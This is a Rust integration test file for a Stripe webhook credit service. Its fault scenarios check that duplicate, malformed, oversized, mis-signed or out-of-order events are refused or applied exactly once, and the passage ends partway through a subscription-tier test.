//! The scenarios of `docs/faults.md`, in its order, as far as no other file has them. Each goes through HTTP,
//! queue and DynamoDB.

use std::sync::{Arc, Mutex};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use futures_util::future::join_all;
use serde_json::{Value, json};
use tallyhook_core::event::Family;
use tallyhook_core::signature::{Secret, sign};
use tallyhook_core::timestamp::Timestamp;

use crate::invariants::{Tables, check_quiet};
use crate::support::{Fault, SECRET, World, aws_error, call, cancelled, pack, sample, signature, with_id};

fn now() -> i64 {
    i64::try_from(std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs())
        .unwrap()
}

fn signed(body: &[u8], secret: &str, offset_seconds: i64) -> String {
    sign(body, &Secret::new(secret).unwrap(), Timestamp::from_unix(now() + offset_seconds))
}

/// The outcome and the reason in the log.
async fn outcome(world: &World, id: &str) -> (String, String) {
    let record = world.event(id).await.unwrap_or_else(|| panic!("{id} is not in the log"));
    (record["outcome"].clone(), record.get("reason").cloned().unwrap_or_default())
}

async fn credits(world: &World, user: &str) -> i64 {
    Tables::read(world).await.credits(user)
}

async fn tier(world: &World, user: &str) -> String {
    world.account(user).await["tier"].as_str().unwrap_or("none").to_owned()
}

async fn spend(world: &World, amount: u64, key: &str) -> u16 {
    world.app("POST", "/users/user_1/credits/consume", json!({"amount": amount}), Some(key)).await.0
}

async fn signed_up() -> World {
    let world = World::new().await;
    world.sign_up("user_1").await;
    world
}

/// A pack that was paid and is in the account: 500 + 1000 credits, payment `pi_TallyHook0002`, 1000 minor
/// units.
async fn buyer() -> World {
    let world = signed_up().await;
    world.process(&sample("checkout.session.completed.pack", "user_1")).await;
    assert_eq!(credits(&world, "user_1").await, 1500);
    world
}

async fn subscriber() -> World {
    let world = signed_up().await;
    world.process(&sample("customer.subscription.created", "user_1")).await;
    world.process(&sample("invoice.paid", "user_1")).await;
    world
}

/// An event that names no user anywhere.
fn anonymous(name: &str) -> Value {
    serde_json::from_str(
        &sample(name, "user_1").to_string().replace("\"user_id\":\"user_1\"", "\"note\":\"none\""),
    )
    .unwrap()
}

fn changed(mut event: Value, id: &str, changes: &[(&str, Value)]) -> Value {
    event["id"] = json!(id);
    for (pointer, value) in changes {
        let (parent, name) = pointer.rsplit_once('/').unwrap();
        event.pointer_mut(parent).unwrap()[name] = value.clone();
    }
    event
}

// ----------------------------------------------------------------------------------------------------------------------
// A. Ingress

#[tokio::test(start_paused = true)]
async fn s02_the_same_event_fifty_times_at_once_is_applied_once() {
    let world = signed_up().await;
    let event = pack("many", "user_1", 1);
    let body = event.to_string();
    let answers = join_all((0..50).map(|_| world.deliver(body.as_bytes()))).await;
    assert!(answers.iter().all(|(status, _)| *status == 200));
    let worker = world.worker(Family::CheckoutSession);
    let batches = join_all((0..5).map(|_| world.receive(Family::CheckoutSession))).await;
    let handled = join_all(batches.iter().map(|batch| worker.handle(batch.clone()))).await;
    for (batch, answer) in batches.iter().zip(handled) {
        world.delete(Family::CheckoutSession, batch, &answer.unwrap()).await;
    }
    world.settle().await;
    let tables = check_quiet(&world, &[event], "S02").await;
    assert_eq!((tables.credits("user_1"), tables.events.len()), (1500, 1));
}

#[tokio::test]
async fn s03_different_events_for_the_same_money_grant_it_once() {
    let world = signed_up().await;
    let invoice = sample("invoice.paid", "user_1");
    let session = sample("checkout.session.completed.pack", "user_1");
    let events = [
        sample("checkout.session.completed", "user_1"),
        sample("customer.subscription.created", "user_1"),
        invoice.clone(),
        with_id(invoice.clone(), "evt_invoice_again"),
        changed(invoice, "evt_succeeded", &[("/type", json!("invoice.payment_succeeded"))]),
        session.clone(),
        changed(
            session.clone(),
            "evt_async",
            &[("/type", json!("checkout.session.async_payment_succeeded"))],
        ),
        changed(session.clone(), "evt_intent", &[("/type", json!("payment_intent.succeeded"))]),
        changed(session, "evt_charge", &[("/type", json!("charge.succeeded"))]),
    ];
    for event in &events {
        world.process(event).await;
    }
    let tables = check_quiet(&world, &events, "S03").await;
    assert_eq!(tables.credits("user_1"), 5000 + 1000);
    for id in ["evt_succeeded", "evt_intent", "evt_charge"] {
        assert_eq!(outcome(&world, id).await, ("ignored".into(), "type".into()));
    }
}

#[tokio::test]
async fn s04_one_event_at_two_endpoints_with_two_secrets_is_applied_once() {
    let world = World::with(&[("STRIPE_WEBHOOK_SECRET", "whsec_first, whsec_second")]).await;
    world.sign_up("user_1").await;
    let event = pack("both", "user_1", 1);
    let body = event.to_string().into_bytes();
    for secret in ["whsec_first", "whsec_second"] {
        assert_eq!(world.post(&body, Some(&signed(&body, secret, 0))).await.0, 200);
    }
    world.drain().await;
    assert_eq!(check_quiet(&world, &[event], "S04").await.credits("user_1"), 1500);
}

#[tokio::test(start_paused = true)]
async fn s07_whatever_sqs_says_but_yes_the_answer_is_503_and_the_event_comes_again() {
    let refusals = [
        aws_error(500, "InternalError"),
        aws_error(503, "ServiceUnavailable"),
        aws_error(400, "ThrottlingException"),
        aws_error(400, "OverLimit"),
        aws_error(403, "AccessDeniedException"),
        aws_error(400, "QueueDoesNotExist"),
        Fault::Answer(502, Value::Null),
        Fault::LoseRequest,
        Fault::HangBefore,
    ];
    let world = signed_up().await;
    let event = pack("later", "user_1", 1);
    let before = world.everything().await;
    for refusal in refusals {
        let when = format!("{refusal:?}");
        world.fault(move |_| Some(refusal.clone()));
        let (status, answer) = world.deliver(event.to_string().as_bytes()).await;
        assert_eq!((status, answer["error"].as_str()), (503, Some("queue_unavailable")), "{when}");
        world.heal();
        assert_eq!(world.everything().await, before, "{when}");
    }
    world.process(&event).await;
    assert_eq!(check_quiet(&world, &[event], "S07").await.credits("user_1"), 1500);
}

#[tokio::test(start_paused = true)]
async fn s08_a_reply_of_the_queue_that_is_lost_leaves_two_messages_and_one_effect() {
    let world = signed_up().await;
    let event = pack("twice", "user_1", 1);
    world.fault(|_| Some(Fault::LoseReply));
    assert_eq!(world.deliver(event.to_string().as_bytes()).await.0, 503);
    world.heal();
    world.process(&event).await;
    assert_eq!(check_quiet(&world, &[event], "S08").await.credits("user_1"), 1500);
}

#[tokio::test]
async fn s09_a_refusal_tells_everyone_the_same_text() {
    let world = World::new().await;
    let body = pack("no", "user_1", 1).to_string().into_bytes();
    let other = signed(&body, "whsec_other", 0);
    let mut texts = Vec::new();
    for header in [
        None,
        Some(""),
        Some("t=1"),
        Some("v1=00"),
        Some("t=1,v1=zz"),
        Some(&other),
        Some(&signed(&body, SECRET, -9000)),
    ] {
        let (status, answer) = world.post(&body, header).await;
        assert_eq!(status, 400, "{header:?}");
        texts.push(answer["message"].clone());
    }
    texts.dedup();
    assert_eq!(texts.len(), 1, "{texts:?}");
}

#[tokio::test]
async fn s10_s11_s12_a_clock_two_minutes_off_does_no_harm_and_one_six_minutes_off_refuses() {
    let world = signed_up().await;
    for (offset, status) in [
        (-120, 200),
        (120, 200),
        (-290, 200),
        (290, 200),
        (-360, 400),
        (360, 400),
        (-90_000, 400),
        (90_000, 400),
    ] {
        let body = pack("clock", "user_1", 1).to_string().into_bytes();
        let before = world.everything().await;
        let answer = world.post(&body, Some(&signed(&body, SECRET, offset))).await;
        assert_eq!(answer.0, status, "{offset}");
        if status == 400 {
            assert_eq!(
                (answer.1["error"].as_str(), world.everything().await),
                (Some("timestamp_out_of_tolerance"), before)
            );
        }
    }
    world.drain().await;
    assert_eq!(credits(&world, "user_1").await, 1500);
}

#[tokio::test]
async fn s13_s14_while_a_secret_is_rolled_both_count_and_afterwards_only_the_new_one() {
    let body = pack("rolled", "user_1", 1).to_string().into_bytes();
    let (old, new) = (signed(&body, "whsec_old", 0), signed(&body, "whsec_new", 0));
    let both = format!("{old},{}", new.split_once(',').unwrap().1);
    for (configured, header, status) in [
        ("whsec_new,whsec_old", &both, 200),
        ("whsec_new,whsec_old", &old, 200),
        ("whsec_new,whsec_old", &new, 200),
        ("whsec_new", &both, 200),
        ("whsec_new", &new, 200),
        ("whsec_new", &old, 400),
        ("whsec_old", &new, 400),
    ] {
        let world = World::with(&[("STRIPE_WEBHOOK_SECRET", configured)]).await;
        assert_eq!(world.post(&body, Some(header)).await.0, status, "{configured}: {header}");
    }
}

#[tokio::test]
async fn s16_base64_bodies_any_case_of_the_header_and_odd_formatting_are_verified_as_sent() {
    let world = signed_up().await;
    let event = pack("gateway", "user_1", 1);
    let crlf = serde_json::to_string_pretty(&event).unwrap().replace('\n', "\r\n");
    let odd = crlf.replace(
        "\"livemode\": false",
        "\"odd\": [1E2, 1.50, -0.0, \"\\u00e9\\/\"],\r\n\t\"livemode\" : false",
    );
    assert_ne!(crlf, odd);
    for (text, header) in
        [(&crlf, "Stripe-Signature"), (&odd, "stripe-signature"), (&crlf, "STRIPE-SIGNATURE")]
    {
        let packed = STANDARD.encode(text);
        for (body, base64) in [(text, false), (&packed, true)] {
            let call =
                call("POST", "/webhooks/stripe", Some((header, &signature(text.as_bytes()))), body, base64);
            assert_eq!(world.call(&call).await.0, 200, "{header} {base64}");
        }
    }
    world.drain().await;
    assert_eq!(credits(&world, "user_1").await, 1500);
}

#[tokio::test]
async fn s17_no_header_however_hostile_gets_more_than_400() {
    let world = World::new().await;
    let before = world.everything().await;
    let body = pack("header", "user_1", 1).to_string().into_bytes();
    let good = signature(&body);
    let (time, v1) = good.split_once(",v1=").unwrap();
    let many = format!("{time}{}", ",v1=00".repeat(1000));
    let digits = format!("t={},v1={v1}", "9".repeat(5000));
    let hostile: Vec<Vec<u8>> = [
        format!("{time},v1="),
        format!("{time},v1"),
        "t=NaN,v1=00".into(),
        format!("t=1,t=2,v1={v1}"),
        format!("{time},v0={v1}"),
        format!("{time},v1={}", &v1[..62]),
        format!("{time},v1={v1}0"),
        format!("t=-1,v1={v1}"),
        format!("t=99999999999999999999,v1={v1}"),
        format!("t=9223372036854775807,v1={v1}"),
        format!("t=-9223372036854775808,v1={v1}"),
        ",,,,====".into(),
        "=".repeat(10_000),
        many,
        digits,
    ]
    .into_iter()
    .map(String::into_bytes)
    .chain([format!("{time},v1=").into_bytes().into_iter().chain([0xff, 0xfe, 0x80]).collect()])
    .collect();
    for header in hostile {
        // JSON has no other bytes than those of a text.
        let header = String::from_utf8_lossy(&header);
        assert_eq!(world.post(&body, Some(&header)).await.0, 400, "{header:.60}");
    }
    let unlike =
        call("POST", "/webhooks/stripe", Some(("stripe-signature", &signature(&body))), "{not base64", true);
    let (status, answer) = world.call(&unlike).await;
    assert_eq!((status, &answer["error"]), (400, &json!("malformed_event")));
    assert_eq!(world.everything().await, before, "I13");
}

#[tokio::test]
async fn s18_s19_s21_signed_nonsense_and_json_bombs_get_400_and_change_nothing() {
    let world = World::new().await;
    let before = world.everything().await;
    let envelope = |extra: &str| {
        format!(r#"{{"id":"evt_1","object":"event","type":"invoice.paid","livemode":false,{extra}}}"#)
            .into_bytes()
    };
    let bomb = |depth: usize| format!(r#""data":{{"object":{}{}}}"#, "[".repeat(depth), "]".repeat(depth));
    let objects = format!(r#""data":{{"object":{}1{}}}"#, r#"{"a":"#.repeat(5000), "}".repeat(5000));
    let bodies: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"{}".to_vec(),
        b"42".to_vec(),
        b"\"text\"".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        b"{\"id\":\"evt_\xff\"}".to_vec(),
        envelope(r#""data":{"object":{"n":NaN}}"#),
        envelope(r#""data":{"object":{"n":"\ud800"}}"#),
        envelope("\"data\":{\"object\":{\"n\":\"\0\"}}"),
        envelope(r#""data":{"object":{}},"id":"evt_2""#),
        envelope(r#""data":{"object":{}},"livemode":true"#),
        envelope(r#""data":[]"#),
        envelope(r#""data":null"#),
        envelope(r#""data":{"object":{}},"#),
        envelope(&bomb(5000)),
        envelope(&bomb(200_000)),
        envelope(&objects),
        "[".repeat(1_000_000).into_bytes(),
        r#"{"id":"evt_1","object":"v2.core.event","type":"v2.core.account.created","data":{}}"#.into(),
        r#"{"version":"0","detail-type":"invoice.paid","detail":{"id":"evt_1","object":"event"}}"#.into(),
    ];
    for body in bodies {
        let shown = String::from_utf8_lossy(&body[..body.len().min(90)]).into_owned();
        let (status, answer) = world.deliver(&body).await;
        assert_eq!((status, answer["error"].as_str()), (400, Some("malformed_event")), "{shown}");
        let (status, answer) = world.post(&body, Some("t=1,v1=00")).await;
        assert_eq!((status, answer["error"].as_str()), (400, Some("invalid_signature")), "{shown}");
    }
    assert_eq!(world.everything().await, before, "I13");
}

#[tokio::test]
async fn s20_a_body_of_any_size_is_applied_or_refused_as_too_large_before_it_is_verified() {
    let world = signed_up().await;
    for (number, kilobytes) in [270, 900, 1100, 5000].into_iter().enumerate() {
        let mut event = pack(&format!("size{number}"), "user_1", 1);
        event["data"]["object"]["filler"] = json!("0123456789abcdef".repeat(kilobytes * 64));
        world.process(&event).await;
        assert_eq!(outcome(&world, &format!("evt_size{number}")).await.0, "processed", "{kilobytes} KB");
    }
    assert_eq!(credits(&world, "user_1").await, 4500);
    let before = world.everything().await;
    let huge = vec![b'x'; 10_000_000];
    for header in [None, Some("t=1,v1=00"), Some(signature(&huge).as_str())] {
        assert_eq!(world.post(&huge, header).await.0, 413);
    }
    assert_eq!(world.everything().await, before, "I13");
}

#[tokio::test]
async fn s23_an_event_that_lacks_what_is_needed_is_parked_and_never_processed_without_effect() {
    let world = signed_up().await;
    let mut no_lines = sample("invoice.paid", "user_1");
    no_lines["data"]["object"]["lines"]["data"] = json!([]);
    let mut wrong_shape = with_id(sample("invoice.paid", "user_1"), "evt_shape");
    wrong_shape["data"]["object"]["amount_paid"] = json!("many");
    let mut no_id = with_id(sample("customer.subscription.created", "user_1"), "evt_noid");
    no_id["data"]["object"].as_object_mut().unwrap().remove("id");
    for event in [no_lines, wrong_shape, no_id] {
        world.process(&event).await;
        world.pass_seconds(10);
        world.drain().await;
        let (outcome, reason) = outcome(&world, event["id"].as_str().unwrap()).await;
        assert_eq!(outcome, "parked", "{reason}");
    }
    assert_eq!((credits(&world, "user_1").await, tier(&world, "user_1").await.as_str()), (500, "free"));
}

#[tokio::test]
async fn s24_an_event_of_the_wrong_mode_moves_nothing_whoever_says_so() {
    for (livemode, variables) in [
        (true, vec![("STRIPE_LIVEMODE", "false")]),
        (false, vec![("STRIPE_LIVEMODE", "true")]),
        (true, vec![("STRIPE_WEBHOOK_SECRET", ""), ("STRIPE_WEBHOOK_SECRET_TEST", SECRET)]),
        (false, vec![("STRIPE_WEBHOOK_SECRET", ""), ("STRIPE_WEBHOOK_SECRET_LIVE", SECRET)]),
    ] {
        let world = World::with(&variables).await;
        world.sign_up("user_1").await;
        let event = changed(pack("mode", "user_1", 1), "evt_mode", &[("/livemode", json!(livemode))]);
        world.process(&event).await;
        assert_eq!(outcome(&world, "evt_mode").await, ("ignored".into(), "livemode".into()), "{variables:?}");
        assert_eq!(credits(&world, "user_1").await, 500, "{variables:?}");
    }
}

#[tokio::test]
async fn s25_an_event_of_a_connected_account_moves_nothing() {
    let world = signed_up().await;
    let mut connect = pack("connect", "user_1", 1);
    connect["account"] = json!("acct_foreign");
    world.process(&connect).await;
    assert_eq!(outcome(&world, "evt_connect").await, ("ignored".into(), "account".into()));
    assert_eq!(credits(&world, "user_1").await, 500);
}

#[tokio::test]
async fn s26_other_methods_and_paths_get_405_and_404_and_change_nothing() {
    let world = World::new().await;
    let before = world.everything().await;
    let body = pack("path", "user_1", 1).to_string();
    for (method, path, status) in [
        ("GET", "/webhooks/stripe", 405),
        ("PUT", "/webhooks/stripe", 405),
        ("DELETE", "/webhooks/stripe", 405),
        ("POST", "/webhooks/stripe/health", 405),
        ("POST", "/webhooks/stripe/", 404),
        ("POST", "/webhooks//stripe", 404),
        ("POST", "/WEBHOOKS/STRIPE", 404),
        ("POST", "/", 404),
    ] {
        let call = call(method, path, Some(("stripe-signature", &signature(body.as_bytes()))), &body, false);
        assert_eq!(world.call(&call).await.0, status, "{method} {path}");
    }
    let (status, health) = world.call(&call("GET", "/webhooks/stripe/health", None, "", false)).await;
    assert_eq!(
        (status, &health["ok"], &health["secrets"]),
        (200, &json!(true), &json!({"test": 0, "live": 0, "any": 1}))
    );
    assert!(!health.to_string().contains(SECRET), "{health}");
    assert_eq!(world.everything().await, before, "I13");
}

#[tokio::test(start_paused = true)]
async fn s27_a_burst_against_a_throttled_table_is_applied_to_the_last_event() {
    let world = World::new().await;
    let events: Vec<Value> =
        (0..200).map(|number| pack(&format!("burst{number}"), &format!("user_{}", number % 60), 1)).collect();
    join_all(
        events
            .iter()
            .map(|event| async { assert_eq!(world.deliver(event.to_string().as_bytes()).await.0, 200) }),
    )
    .await;
    let worker = world.worker(Family::CheckoutSession);
    for number in 0..20 {
        let batch = world.receive(Family::CheckoutSession).await;
        let mut random = fastrand::Rng::with_seed(number);
        world.fault(move |_| {
            (random.u8(0..3) == 0).then(|| aws_error(400, "ProvisionedThroughputExceededException"))
        });
        let answer = worker.handle(batch.clone()).await.unwrap();
        world.heal();
        world.delete(Family::CheckoutSession, &batch, &answer).await;
    }
    world.settle().await;
    let tables = check_quiet(&world, &events, "S27").await;
    assert_eq!((0..60).map(|user| tables.credits(&format!("user_{user}"))).sum::<i64>(), 200_000);
}

// ------------------------------------------------------------------------------------------------------------------------
// B. Order

#[tokio::test]
async fn s28_an_update_after_the_deletion_revives_nothing() {
    let world = subscriber().await;
    world.process(&sample("customer.subscription.deleted", "user_1")).await;
    let late = changed(
        sample("customer.subscription.updated", "user_1"),
        "evt_late",
        &[("/created", json!(1_790_000_000))],
    );
    world.process(&late).await;
    assert_eq!(
        (tier(&world, "user_1").await.as_str(), outcome(&world, "evt_late").await.0.as_str()),
        ("free", "processed")
    );
}

#[tokio::test]
async fn s29_incomplete_after_active_takes_nothing_away() {
    let world = signed_up().await;
    for name in
        ["old/customer.subscription.updated.activated", "old/customer.subscription.created.incomplete"]
    {
        world.process(&sample(name, "user_1")).await;
        assert_eq!(tier(&world, "user_1").await, "pro", "{name}");
    }
}

#[tokio::test]
async fn s30_two_updates_of_one_second_end_alike_in_either_order() {
    let one = sample("customer.subscription.updated", "user_1");
    let mut ends = Vec::new();
    for other in ["past_due", "unpaid", "paused", "canceled"] {
        let two = changed(
            one.clone(),
            "evt_two",
            &[
                ("/data/object/status", json!(other)),
                ("/data/previous_attributes", json!({"status": "active"})),
            ],
        );
        for order in [[&one, &two], [&two, &one]] {
            let world = subscriber().await;
            for event in order {
                world.process(event).await;
            }
            let account = Tables::read(&world).await.meaning().accounts
                [&("user#user_1".to_owned(), "account".to_owned())]
                .clone();
            ends.push((account["tier"].clone(), account["state"]["subscriptions"].clone()));
        }
        assert_eq!(ends[0], ends[1], "{other}");
        ends.clear();
    }
}

#[tokio::test]
async fn s31_an_invoice_before_its_customer_is_known_is_granted_within_seconds_of_the_link() {
    let world = signed_up().await;
    let invoice = anonymous("invoice.paid");
    assert_eq!(world.deliver(invoice.to_string().as_bytes()).await.0, 200);
    assert_eq!(world.poll(Family::InvoicePaid).await, 1);
    world.process(&sample("customer.subscription.created", "user_1")).await;
    world.pass_seconds(6);
    world.drain().await;
    assert_eq!(check_quiet(&world, &[invoice], "S31").await.credits("user_1"), 5000);
}

#[tokio::test]
async fn s31_an_invoice_beside_the_one_that_tells_its_customer_is_granted_and_not_parked() {
    let world = signed_up().await;
    let nameless =
        changed(anonymous("invoice.paid"), "evt_nameless", &[("/data/object/id", json!("in_nameless"))]);
    assert_eq!(world.deliver(nameless.to_string().as_bytes()).await.0, 200);
    assert_eq!(world.poll(Family::InvoicePaid).await, 1, "not yet");
    // Both in one batch, in both orders: the transaction that binds the customer must not park the other for
    // want of a user.
    let named = sample("invoice.paid", "user_1");
    world.deliver(named.to_string().as_bytes()).await;
    world.pass_seconds(6);
    let mut batch = world.receive(Family::InvoicePaid).await;
    assert_eq!(batch.records.len(), 2);
    batch
        .records
        .sort_by_key(|record| record.body.as_ref().is_some_and(|body| body.contains("evt_nameless")));
    let answer = world.worker(Family::InvoicePaid).handle(batch.clone()).await.unwrap();
    world.delete(Family::InvoicePaid, &batch, &answer).await;
    world.settle().await;
    check_quiet(&world, &[named, nameless], "S31").await;
    assert_eq!(outcome(&world, "evt_nameless").await.0, "processed");
}

#[tokio::test]
async fn s32_a_refund_before_its_grant_waits_and_ends_at_nothing() {
    let world = signed_up().await;
    let refund = anonymous("charge.refunded.full");
    world.process(&refund).await;
    world.settle().await;
    assert_eq!(outcome(&world, refund["id"].as_str().unwrap()).await.0, "parked");
    assert_eq!(credits(&world, "user_1").await, 500, "nothing is taken for what was not granted");
    world.process(&sample("checkout.session.completed.pack", "user_1")).await;
    // However it is set going again: by hand, by Stripe, or by whoever watches what it waits for.
    world.process(&refund).await;
    world.settle().await;
    assert_eq!(credits(&world, "user_1").await, 500);
    assert_eq!(outcome(&world, refund["id"].as_str().unwrap()).await.0, "processed");
}

#[tokio::test]
async fn s33_the_end_of_an_old_subscription_leaves_the_new_one_its_tier() {
    let world = subscriber().await;
    let other: Value = serde_json::from_str(
        &sample("customer.subscription.created", "user_1")
            .to_string()
            .replace("sub_TallyHook0001", "sub_New"),
    )
    .unwrap();
    world.process(&with_id(other, "evt_new")).await;
    world.process(&sample("customer.subscription.deleted", "user_1")).await;
    assert_eq!(tier(&world, "user_1").await, "pro");
}

#[tokio::test]
async fn s34_an_invoice_that_comes_after_everything_ended_is_granted_all_the_same() {
    let world = signed_up().await;
    world.process(&sample("customer.subscription.created", "user_1")).await;
    world.process(&sample("customer.subscription.deleted", "user_1")).await;
    world.process(&sample("invoice.paid", "user_1")).await;
    assert_eq!((credits(&world, "user_1").await, tier(&world, "user_1").await.as_str()), (5000, "free"));
}

// ------------------------------------------------------------------------------------------------------------------
// C. Money rules

#[tokio::test]
async fn s37_an_unpaid_session_grants_when_it_is_paid_once_and_in_either_order() {
    let (unpaid, paid) = (
        sample("checkout.session.completed.unpaid", "user_1"),
        sample("checkout.session.async_payment_succeeded", "user_1"),
    );
    let mut ends = Vec::new();
    for order in [[&unpaid, &paid, &paid], [&paid, &unpaid, &paid], [&paid, &paid, &unpaid]] {
        let world = signed_up().await;
        for (number, event) in order.into_iter().enumerate() {
            world.process(&with_id(event.clone(), &format!("evt_{number}"))).await;
        }
        ends.push(credits(&world, "user_1").await);
    }
    assert!(ends[0] > 500 && ends.iter().all(|end| *end == ends[0]), "{ends:?}");
}

#[tokio::test]
async fn s38_s39_s40_what_was_not_paid_or_is_no_period_grants_nothing() {
    let world = signed_up().await;
    let mut manual = with_id(sample("invoice.paid", "user_1"), "evt_manual");
    manual["data"]["object"]["id"] = json!("in_manual");
    manual["data"]["object"]["billing_reason"] = json!("manual");
    manual["data"]["object"]["parent"] = Value::Null;
    manual["data"]["object"]["lines"]["data"][0]["parent"] = Value::Null;
    manual["data"]["object"]["lines"]["data"][0]["subscription"] = Value::Null;
    for event in [
        sample("checkout.session.async_payment_failed", "user_1"),
        sample("checkout.session.expired", "user_1"),
        sample("checkout.session.completed.unpaid", "user_1"),
        sample("checkout.session.completed.trial", "user_1"),
        manual,
    ] {
        world.process(&event).await;
        let (outcome, reason) = outcome(&world, event["id"].as_str().unwrap()).await;
        assert_eq!(credits(&world, "user_1").await, 500, "{} {outcome} {reason}", event["type"]);
    }
}

#[tokio::test]
async fn s39_a_trial_starts_with_its_credits_once_whichever_of_its_events_come() {
    let names =
        ["customer.subscription.created.trialing", "invoice.paid.trial", "checkout.session.completed.trial"];
    for rotation in 0..3 {
        let world = signed_up().await;
        for number in 0..6 {
            world.process(&sample(names[(number + rotation) % 3], "user_1")).await;
        }
        assert_eq!((credits(&world, "user_1").await, rotation), (5000, rotation));
    }
}

#[tokio::test]
async fn s41_partial_refunds_in_any_order_and_number_take_back_their_share_once() {
    let refund = |amount: i64| {
        let all = json!(amount == 1000);
        let event = sample("charge.refunded", "user_1");
        changed(
            event,
            &format!("evt_r{amount}"),
            &[("/data/object/amount_refunded", json!(amount)), ("/data/object/refunded", all)],
        )
    };
    for order in
        [[400, 700, 1000, 400], [1000, 700, 400, 1000], [700, 700, 1000, 400], [1000, 1000, 1000, 1000]]
    {
        let world = buyer().await;
        for (number, amount) in order.into_iter().enumerate() {
            world.process(&with_id(refund(amount), &format!("evt_r{number}"))).await;
            let most = order[..=number].iter().max().unwrap();
            assert_eq!(credits(&world, "user_1").await, 1500 - most, "I11, {order:?} at {number}");
        }
    }
}

#[tokio::test]
async fn s42_a_refund_of_what_is_spent_is_recorded_with_its_shortfall_and_leaves_no_debt() {
    let world = buyer().await;
    assert_eq!(spend(&world, 1400, "all").await, 200);
    world.process(&sample("charge.refunded.full", "user_1")).await;
    let tables = Tables::read(&world).await;
    tables.check("S42");
    let taken = tables.accounts.values().find(|item| item["kind"] == "refund").unwrap();
    let shortfall = taken["shortfall"].as_i64().unwrap();
    assert_eq!(-taken["delta"].as_i64().unwrap() + shortfall, 1000, "{taken}");
    assert!(shortfall > 0 && tables.credits("user_1") >= 0, "I12");
}

#[tokio::test]
async fn s43_a_pending_refund_takes_nothing_for_good_and_a_failed_one_gives_back() {
    let world = signed_up().await;
    world.process(&sample("checkout.session.async_payment_succeeded", "user_1")).await;
    let bought = credits(&world, "user_1").await;
    world.process(&sample("refund.created.pending", "user_1")).await;
    let pending = credits(&world, "user_1").await;
    world.process(&sample("refund.failed", "user_1")).await;
    assert_eq!((pending, credits(&world, "user_1").await), (bought, bought));
    world.process(&with_id(sample("refund.created.pending", "user_1"), "evt_late_pending")).await;
    assert_eq!(credits(&world, "user_1").await, bought);
}

#[tokio::test]
async fn s44_s45_s46_disputes_and_refunds_of_one_charge_never_take_more_than_was_granted() {
    // `pack_5000` is paid by pi_TallyHook0004, 4500 minor units.
    let refund = |id: &str, amount: i64| {
        let event = sample("charge.refunded", "user_1");
        changed(
            event,
            id,
            &[
                ("/data/object/id", json!("ch_TallyHook0004")),
                ("/data/object/payment_intent", json!("pi_TallyHook0004")),
                ("/data/object/amount", json!(4500)),
                ("/data/object/amount_refunded", json!(amount)),
                ("/data/object/metadata", json!({})),
            ],
        )
    };
    let dispute = |name: &str| sample(&format!("charge.dispute.{name}"), "user_1");
    let all = |events: Vec<(Value, i64)>| async {
        let world = signed_up().await;
        world.process(&sample("checkout.session.completed.pack_5000", "user_1")).await;
        assert_eq!(credits(&world, "user_1").await, 5500);
        for (event, left) in events {
            for _ in 0..2 {
                world.process(&event).await;
                assert_eq!(credits(&world, "user_1").await, left, "after {}", event["type"]);
            }
        }
    };
    all(vec![
        (dispute("created"), 500),
        (dispute("funds_withdrawn"), 500),
        (dispute("closed.won"), 5500),
        (refund("evt_r", 4500), 500),
    ])
    .await;
    all(vec![(dispute("created"), 500), (dispute("closed.lost"), 500), (refund("evt_r", 4500), 500)]).await;
    all(vec![(refund("evt_r", 2250), 3000), (dispute("created"), 500), (dispute("closed.won"), 3000)]).await;
    all(vec![(dispute("closed.won"), 5500), (dispute("created"), 5500)]).await;
}

#[tokio::test]
async fn s47_an_inquiry_takes_nothing() {
    let world = signed_up().await;
    world.process(&sample("checkout.session.completed.order", "user_1")).await;
    let mut inquiry = sample("charge.dispute.created.inquiry", "user_1");
    inquiry["data"]["object"]["payment_intent"] = json!("pi_TallyHook0003");
    world.process(&inquiry).await;
    assert_eq!(credits(&world, "user_1").await, 500);
}

#[tokio::test]
async fn s48_seats_count_and_a_list_cut_short_is_parked() {
    let world = signed_up().await;
    let text = sample("invoice.paid", "user_1").to_string().replace("price_pro_test", "price_team_test");
    let mut seats: Value = serde_json::from_str(&text).unwrap();
    seats["data"]["object"]["lines"]["data"][0]["quantity"] = json!(7);
    world.process(&with_id(seats, "evt_seats")).await;
    assert_eq!(credits(&world, "user_1").await, 7000);
    let mut cut = with_id(sample("invoice.paid.renewal", "user_1"), "evt_cut");
    cut["data"]["object"]["lines"]["has_more"] = json!(true);
    cut["data"]["object"]["lines"]["data"] = json!([]);
    world.process(&cut).await;
    assert_eq!(outcome(&world, "evt_cut").await, ("parked".into(), "truncated_list".into()));
    assert_eq!(credits(&world, "user_1").await, 7000);
}

#[tokio::test]
async fn s49_s50_amounts_come_from_the_catalog_and_no_number_breaks_it() {
    let world = signed_up().await;
    let mut own = pack("own", "user_1", 1);
    own["data"]["object"]["metadata"]["credits"] = json!("999999");
    own["data"]["object"]["amount_total"] = json!(i64::MAX);
    own["data"]["object"]["currency"] = json!("jpy");
    world.process(&own).await;
    assert_eq!(credits(&world, "user_1").await, 1500);
    for (number, quantity) in
        ["0", "-1", "1e9", "999999999999", "18446744073709551616", " 7", "NaN", "١"].into_iter().enumerate()
    {
        let mut odd = pack(&format!("odd{number}"), "user_1", 1);
        odd["data"]["object"]["metadata"]["quantity"] = json!(quantity);
        world.process(&odd).await;
        let (outcome, reason) = outcome(&world, &format!("evt_odd{number}")).await;
        let left = credits(&world, "user_1").await;
        assert!(outcome == "parked" && left == 1500, "{quantity:?}: {outcome} {reason} {left}");
    }
    for (number, amount) in
        [json!(i64::MIN), json!(i64::MAX), json!(u64::MAX), json!(1.5), json!("1")].into_iter().enumerate()
    {
        let event = with_id(sample("charge.refunded", "user_1"), &format!("evt_amount{number}"));
        let event =
            changed(event, &format!("evt_amount{number}"), &[("/data/object/amount_refunded", amount)]);
        world.process(&event).await;
        world.settle().await;
        Tables::read(&world).await.check("S50");
    }
    check_quiet(&world, &[], "S50").await;
}

#[tokio::test]
async fn s51_only_a_status_that_pays_gives_the_paid_tier() {
    for (status, expected) in [
        ("active", "pro"),
        ("trialing", "pro"),
        ("unpaid", "free"),
        ("paused", "free"),
        ("incomplete", "free"),
        ("incomplete_expired", "free"),
        ("canceled", "free"),
        ("past_due", "free"),
        ("a_word_of_the_future", "free"),
    ] {
        let world = signed_up().await;
        world
            .process(&changed(
                sample("customer.subscription.updated", "user_1"),
